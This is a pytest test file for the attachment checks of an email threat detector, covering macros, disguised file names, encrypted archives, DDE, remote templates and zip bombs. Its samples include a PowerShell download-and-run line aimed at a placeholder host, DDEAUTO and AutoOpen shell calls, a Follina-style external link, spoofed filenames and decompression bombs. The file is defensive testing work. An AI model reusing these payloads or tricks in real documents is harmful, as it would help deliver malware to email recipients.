"""Attachment signals: programs, scripts, macros and the containers that hide them."""

from __future__ import annotations

import builtins
import hashlib
import random
import warnings
from typing import Any

import pytest

from rempart.mail.limits import MiB
from rempart.mail.model import Attachment, Hit, ParsedMail
from rempart.mail.signals import attachments
from rempart.mail.signals.attachments import name_trick, password_hint, show_name

from .support import CTX, annotated_sample_tests, attachment_builders, count_inflated, sample

GROUP = "attachments"


B = attachment_builders()


def att(name: str, data: bytes, ctype: str = "application/octet-stream") -> Attachment:
    return Attachment(name, ctype, data, len(data), hashlib.sha256(data).hexdigest())


def mail(*atts: Attachment, text: str = "", subject: str = "") -> ParsedMail:
    return ParsedMail(source="t", raw_size=0, headers=(), subject=subject, text=text,
                      attachments=atts)  # fmt: skip


def hits(*atts: Attachment, text: str = "", subject: str = "") -> dict[str, Hit]:
    return {h.signal: h for h in attachments.detect(mail(*atts, text=text, subject=subject), CTX)}


# ---------------------------------------------------------------- annotated samples


(
    test_every_sample_is_annotated,
    test_sample_raises_exactly_the_expected_signals,
    test_every_signal_has_a_sample,
) = annotated_sample_tests(GROUP, attachments.detect, attachments.SPECS)


def test_specs_are_documented() -> None:
    for spec in attachments.SPECS:
        assert spec.id.startswith("attachments.") and spec.category.value == "attachments"
        assert spec.title and spec.why and spec.advice and 0.5 <= spec.prior_weight <= 4.0


def _sample_hits(name: str) -> dict[str, Hit]:
    return {h.signal: h for h in attachments.detect(sample(GROUP, name), CTX)}


def test_macro_evidence_names_trigger_and_calls_and_keeps_the_url() -> None:
    hit = _sample_hits("journalist_docm_autoopen")["attachments.macro_suspicious"]
    assert hit.evidence.startswith("questions_interview.docm: VBA macros run on opening (AutoOpen)")
    assert "Shell" in hit.evidence and "DownloadString" in hit.evidence
    assert hit.indicators == ("http://docs-interview.example.net/q.ps1",)


def test_archive_evidence_gives_member_path_and_hash() -> None:
    hit = _sample_hits("tar_gz_ps1")["attachments.archive_dangerous"]
    assert hit.evidence == (
        "sauvegarde.tar.gz → sauvegarde.tar/sauvegarde/update.ps1 (PowerShell script)"
    )
    body = b"Invoke-WebRequest http://x.example/a -OutFile a; Start-Process a"
    assert hit.indicators == (hashlib.sha256(body).hexdigest(),)
    nested = _sample_hits("zip_with_docm")["attachments.macro_suspicious"]
    assert nested.evidence.startswith("dossier_presse.zip → dossier/questions.docm: ")
    assert len(nested.indicators) == 2  # the macro's URL and the member's SHA-256


def test_password_and_rtlo_evidence() -> None:
    pw = _sample_hits("zip_js_password_fr")["attachments.archive_password"]
    assert pw.evidence.endswith("message says «mot de passe : 1234»")
    subject = _sample_hits("rar_vbs_pwd_subject")["attachments.archive_password"]
    assert "«pwd 2024»" in subject.evidence
    rtlo = _sample_hits("rtlo_scr")["attachments.double_extension"]
    assert rtlo.evidence.startswith("releve_<U+202E>fdp.scr: ")
    bomb = _sample_hits("zip_bomb_nested")["attachments.archive_bomb"]
    assert "nests archives deeper than 3 levels" in bomb.evidence


# ---------------------------------------------------------------- helpers


@pytest.mark.parametrize(
    ("text", "phrase"),
    [
        ("Bonjour,\nmot de passe : 1234\nCordialement", "mot de passe : 1234"),
        ("Le mot de passe de l'archive est infected.", "mot de passe de l'archive est infected"),
        ("password: infected", "password: infected"),
        ("The password is «Facture2026»", "password is «Facture2026»"),
        ("pwd 2024", "pwd 2024"),
        ("MDP=azerty!", "MDP=azerty!"),
        ("Passwort lautet 4711", "Passwort lautet 4711"),
        ("contraseña: abc123", "contraseña: abc123"),
    ],
)
def test_password_hint_finds_passwords(text: str, phrase: str) -> None:
    assert password_hint(text) == phrase


@pytest.mark.parametrize(
    "text",
    [
        "Mot de passe oublié ? Cliquez ici.",
        "le mot de passe suit par SMS",
        "Your password is about to expire",
        "Réinitialiser votre mot de passe",
        "The password will be sent separately.",
        "Changez de mot de passe régulièrement, c'est important.",
        "",
    ],
)
def test_password_hint_ignores_ordinary_sentences(text: str) -> None:
    assert password_hint(text) == ""


@pytest.mark.parametrize(
    ("name", "trick"),
    [
        ("facture.pdf.exe", "double extension .pdf.exe"),
        ("FACTURE.PDF.JS", "double extension .pdf.js"),
        ("scan.jpg.scr. ", "double extension .jpg.scr"),
        ("invoice.pdf      .js", "6 blank characters hide the real .js extension"),
        ("doc\u3164\u3164\u3164.exe", "3 blank characters hide the real .exe extension"),
        ("releve_\u202efdp.scr", "bidirectional control character reverses the displayed name"),
        ("photo\u202egpj.png", "bidirectional control character reverses the displayed name"),
        ("rapport.pdf", ""),
        ("setup.exe", ""),
        ("archive.tar.gz", ""),
        ("version.1.2.exe", ""),
    ],
)
def test_name_trick(name: str, trick: str) -> None:
    assert name_trick(name) == trick


def test_show_name_makes_controls_visible_and_bounded() -> None:
    assert show_name("a\u202eb\x00c") == "a<U+202E>b<U+0000>c"
    assert len(show_name("x" * 1000)) == 151


# ---------------------------------------------------------------- behaviour on synthetic mail


def test_content_wins_over_name() -> None:
    found = hits(att("photo.jpg", B.pe(), "image/jpeg"))
    assert set(found) == {"attachments.executable", "attachments.type_mismatch"}
    assert found["attachments.type_mismatch"].evidence == (
        "photo.jpg: named .jpg but is a Windows program (PE)"
    )
    by_mime = hits(att("", B.zip_file([B.ZipMember("a.txt", b"x")]), "application/pdf"))
    assert "attachments.type_mismatch" in by_mime


def test_svg_script_is_left_to_the_html_module_unless_archived() -> None:
    svg = b"<svg><script>location='https://x.example'</script></svg>"
    assert hits(att("logo.svg", svg, "image/svg+xml")) == {}
    zipped = hits(att("logo.zip", B.zip_file([B.ZipMember("logo.svg", svg)])))
    assert zipped["attachments.archive_dangerous"].evidence == (
        "logo.zip → logo.svg (SVG image with embedded script)"
    )


def test_extension_alone_is_enough() -> None:
    found = hits(att("outil.vbs", b"\x00\x01garbage"))
    assert set(found) == {"attachments.dangerous_extension"}


def test_lnk_attachment_and_member() -> None:
    assert set(hits(att("doc.lnk", B.lnk()))) == {
        "attachments.shortcut",
        "attachments.dangerous_extension",
    }
    zipped = hits(att("doc.zip", B.zip_file([B.ZipMember("doc", B.lnk())])))
    assert zipped["attachments.archive_dangerous"].evidence == (
        "doc.zip → doc (Windows shortcut (LNK))"
    )


def test_encrypted_office_document_with_password() -> None:
    enc = B.cfb({"EncryptedPackage": bytes(5000), "EncryptionInfo": bytes(200)})
    found = hits(att("budget.xlsx", enc), text="Le mot de passe : Budget2026")
    assert set(found) == {"attachments.archive_password"}
    assert set(hits(att("budget.xlsx", enc))) == {"attachments.archive_encrypted"}


def test_ooxml_embedded_package_follina_and_xlm_sheet() -> None:
    ole = B.cfb({"\x01Ole10Native": _ole10native("maj.exe", B.pe())})
    rels = (
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/oleObject" Target="mhtml:http://x.example/a.html!x-usc:http://x.example/b"'
        ' TargetMode="External"/>'
    )
    doc = B.ooxml(
        {
            "[Content_Types].xml": B.CT_DOCX.replace("{main}", "x"),
            "word/document.xml": B.word_xml(B.paragraph("x")),
            "word/_rels/document.xml.rels": B._rels(rels),
            "word/embeddings/oleObject1.bin": ole,
        }
    )
    found = hits(att("a.docx", doc))
    assert set(found) == {"attachments.office_object", "attachments.office_remote_template"}
    assert (
        "embedded file 'maj.exe' (Windows program (PE))"
        in found["attachments.office_object"].evidence
    )
    assert "mhtml:http://x.example/a.html" in found["attachments.office_remote_template"].evidence
    xlsm = B.ooxml(
        {
            "[Content_Types].xml": B.CT_DOCX.replace("{main}", "x"),
            "xl/workbook.xml": "<workbook/>",
            "xl/macrosheets/sheet1.xml": "<xm:macrosheet/>",
        }
    )
    assert hits(att("a.xlsx", xlsm))["attachments.macro"].evidence == (
        "a.xlsx: Excel 4 (XLM) macro sheet"
    )


def _ole10native(name: str, data: bytes) -> bytes:
    path = ("C:\\Temp\\" + name).encode() + b"\x00"
    body = b"\x02\x00" + name.encode() + b"\x00" + path + b"\x00\x00\x03\x00"
    body += len(path).to_bytes(4, "little") + path + len(data).to_bytes(4, "little") + data
    return len(body).to_bytes(4, "little") + body


def test_doc_and_rtf_dde_and_rtf_template() -> None:
    doc = B.cfb({"WordDocument": b"\xec\xa5" + bytes(4094) + b"\x13 DDEAUTO cmd /c calc\x14x\x15"})
    assert hits(att("a.doc", doc))["attachments.office_dde"].evidence == (
        "a.doc: field DDEAUTO cmd /c calc"
    )
    rtf = (
        b"{\\rtf1{\\*\\template http://tpl.example/t.dot}"
        b'{\\field{\\*\\fldinst {\\rtlch DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc"}}}}'
    )
    found = hits(att("a.rtf", rtf))
    assert set(found) == {"attachments.office_dde", "attachments.office_remote_template"}
    assert found["attachments.office_remote_template"].indicators == ("http://tpl.example/t.dot",)


def test_odf_basic_macros() -> None:
    odt = B.zip_file(
        [
            B.ZipMember("mimetype", b"application/vnd.oasis.opendocument.text", stored=True),
            B.ZipMember("META-INF/manifest.xml", b"<m/>"),
            B.ZipMember("Basic/Standard/Module1.xml", b"<script:module/>"),
        ]
    )
    assert set(hits(att("a.odt", odt))) == {"attachments.macro"}


def test_large_vba_projects_are_reported_not_analysed(monkeypatch: pytest.MonkeyPatch) -> None:
    streams = B.vba_streams("Sub A()\r\nEnd Sub\r\n", "ThisDocument", True, "Macros/")
    streams["Macros/VBA/ThisDocument"] = random.Random(1).randbytes(600 * 1024)
    doc = B.cfb({"WordDocument": b"\xec\xa5" + bytes(5000), **streams})
    with warnings.catch_warnings():  # oletools' pyparsing use warns at import time
        warnings.simplefilter("ignore")
        from oletools import olevba
    parsers: list[object] = []
    real = olevba.VBA_Parser

    def spy(*args: Any, **kwargs: Any) -> Any:
        parsers.append(args)
        return real(*args, **kwargs)

    monkeypatch.setattr(olevba, "VBA_Parser", spy)
    found = hits(att("gros.doc", doc))
    assert found["attachments.macro"].evidence == (
        "gros.doc: VBA macros (600 KiB, too large to analyse)"
    )
    assert parsers == []  # olevba's slow VBA decompressor never saw the project


def test_large_vba_in_ooxml_is_reported_not_analysed() -> None:
    streams = B.vba_streams("Sub A()\r\nEnd Sub\r\n", "ThisDocument", True)
    streams["VBA/ThisDocument"] = random.Random(2).randbytes(300 * 1024)
    docm = B.docx(B.paragraph("x"), vba=B.cfb(streams))
    found = hits(att("gros.docm", docm))
    assert found["attachments.macro"].evidence == (
        "gros.docm: VBA macros (300 KiB, too large to analyse)"
    )


def test_packages_in_ole_and_program_parts_in_ooxml() -> None:
    doc = B.cfb(
        {
            "WordDocument": b"\xec\xa5" + bytes(5000),
            "ObjectPool/_1/\x01Ole10Native": _ole10native("facture.pdf.exe", B.pe()),
            "ObjectPool/_2/Equation Native": bytes(100),
        }
    )
    ev = hits(att("a.doc", doc))["attachments.office_object"].evidence
    assert ev == (
        "a.doc: embedded file 'facture.pdf.exe' (Windows program (PE)) | "
        "a.doc: Equation Editor object (exploited by CVE-2017-11882)"
    )
    docx = B.ooxml(
        {
            "[Content_Types].xml": B.CT_DOCX.replace("{main}", "x"),
            "word/document.xml": B.word_xml(B.paragraph("x")),
            "word/media/update.exe": B.pe(),
        }
    )
    assert hits(att("b.docx", docx))["attachments.office_object"].evidence == (
        "b.docx: embedded file 'word/media/update.exe'"
    )


def test_powerpoint_is_not_analysed_but_does_not_fail() -> None:
    ppt = B.cfb({"PowerPoint Document": bytes(5000), "Current User": bytes(100)})
    assert hits(att("a.ppt", ppt)) == {}


def test_office_analyses_per_message_are_capped() -> None:
    doc = B.word97_doc('Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub\r\n')
    many = [att(f"d{i}.doc", doc + bytes([i])) for i in range(attachments.MAX_OFFICE_DOCS + 5)]
    found = hits(*many)
    assert found["attachments.macro_suspicious"].evidence.startswith("d0.doc: ")


@pytest.mark.timeout(30)  # reading /dev/stdin would block: fail instead of hanging
def test_rtf_object_data_is_never_used_as_a_path(monkeypatch: pytest.MonkeyPatch) -> None:
    # olefile treats short *bytes* as a file name; an RTF object must never reach that path
    ole1 = b"\x01\x05\x00\x00\x02\x00\x00\x00" + (8).to_bytes(4, "little") + b"Word.Doc"
    ole1 += (
        bytes(8)
        + (20).to_bytes(4, "little")
        + bytes.fromhex("d0cf11e0a1b11ae1")
        + b"/dev/stdin\x00\x00"
    )
    rtf = b"{\\rtf1{\\object{\\*\\objdata " + ole1.hex().encode() + b"}}}"
    opened: list[object] = []
    real_open = builtins.open

    def spy(file: Any, *args: Any, **kwargs: Any) -> Any:
        opened.append(file)
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", spy)
    assert hits(att("a.rtf", rtf)) == {}
    assert opened == []  # no file (/dev/stdin or any other) was opened by name


# ---------------------------------------------------------------- hostile input


def test_bombs_through_detect_are_fast(monkeypatch: pytest.MonkeyPatch) -> None:
    inflated = count_inflated(monkeypatch)
    found = hits(
        att("zeros.zip", B.zero_bomb_zip(1024), "application/zip"),
        att("lot.zip", B.nested_bomb(levels=6, copies=16, leaf_mib=16), "application/zip"),
        att("x.gz", B.gzip_zero_bomb(1024), "application/gzip"),
    )
    assert set(found) == {"attachments.archive_bomb"}
    ev = found["attachments.archive_bomb"].evidence
    assert ev.startswith("zeros.zip: zip: member 1 ratio 1011:1, not unpacked (zip bomb)")
    # the two 1 GiB bombs are refused unread; of the nested one, only one small archive
    # per level followed is unpacked
    assert len(inflated) <= CTX.limits.max_archive_depth + 1
    assert sum(map(sum, inflated)) < MiB


@pytest.mark.parametrize(
    "prefix",
    [b"", b"MZ", b"PK\x03\x04", bytes.fromhex("d0cf11e0a1b11ae1"), b"{\\rtf1",
     b"7z\xbc\xaf\x27\x1c", b"Rar!\x1a\x07\x01\x00", b"\x1f\x8b\x08", b"ID;P\r\n",
     bytes(0x8001) + b"CD001"],
)  # fmt: skip
def test_garbage_attachments_never_raise(prefix: bytes) -> None:
    rng = random.Random(len(prefix))
    for name in ("a.docm", "a.zip", "a.exe", "a.rtf", "", "a.iso"):
        data = prefix + rng.randbytes(rng.randint(0, 5000))
        attachments.detect(mail(att(name, data)), CTX)


def test_many_and_large_attachments_stay_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    noise = random.Random(7).randbytes(8 << 20)
    atts = [att(f"f{i}.bin", noise[i * 1000 : i * 1000 + 2000]) for i in range(300)]
    atts.append(att("big.docx", b"PK\x03\x04" + noise))
    atts.append(att("big.txt", b"mot de passe : 1 " * 500_000))
    analysed: list[str] = []
    real = attachments._attachment

    def spy(a: Attachment, state: Any) -> None:
        analysed.append(a.filename)
        real(a, state)

    monkeypatch.setattr(attachments, "_attachment", spy)
    assert attachments.detect(mail(*atts, text="x" * 1_000_000), CTX) == []
    # only the first MAX_ATTACHMENTS are looked at; the big ones past the cap are never read
    assert analysed == [f"f{i}.bin" for i in range(attachments.MAX_ATTACHMENTS)]


def test_no_attachments_no_hits() -> None:
    assert attachments.detect(mail(text="mot de passe : 1234"), CTX) == []
